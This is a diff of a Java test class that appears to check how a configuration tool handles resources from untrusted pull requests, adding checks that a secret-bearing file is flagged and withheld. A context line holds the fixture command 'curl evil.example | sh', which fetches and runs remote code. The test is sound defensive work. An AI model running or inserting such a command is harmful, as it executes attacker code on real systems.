@@ -42,6 +42,7 @@ class ForeignTest {
         resources:
           - shell: {name: peek, check: "curl evil.example | sh", apply: "true"}
           - file: {path: /etc/private, content: "guess\\n", mode: "0644"}
+          - file: {path: /etc/leak, secretRef: "env:MESH_SECRET_DB", mode: "0640"}
       """;
 
   @TempDir Path folder;
@@ -101,6 +102,7 @@ class ForeignTest {
     assertEquals(Set.of("hub 192.0.2.1", "laptop 192.0.2.1", "wsl 192.0.2.1"), looked());
     assertTrue(plan.contains("`shell:peek`: its probe runs commands of this pull request"), plan);
     assertTrue(plan.contains("the node is new in this pull request"), plan);
+    assertTrue(plan.contains("`file:/etc/leak`: it holds a secret"), plan);
     assertTrue(plan.contains("content: (not shown) -> (not shown)"), plan);
     assertFalse(plan.contains("only root"), plan);
     assertFalse(plan.contains(Content.of("what only root knows\n").sha256().substring(0, 12)));
@@ -128,6 +130,7 @@ class ForeignTest {
     String plan = world.awaitPlan(id, "4 nodes: 4 change");
 
     assertTrue(probed().contains("shell:peek"));
+    assertTrue(probed().contains("file:/etc/leak"));
     assertTrue(looked().contains("trap evil.example"));
     assertTrue(plan.contains("-what only root knows"), plan);
   }
@@ -155,5 +158,6 @@ class ForeignTest {
     PullRequest.Id id = evil(ReviewWorld.STRANGER, true);
     world.awaitPlan(id, "4 nodes: 4 change");
     assertTrue(probed().contains("shell:peek"));
+    assertFalse(probed().contains("file:/etc/leak"), "commands may run, secrets are not given");
   }
 }
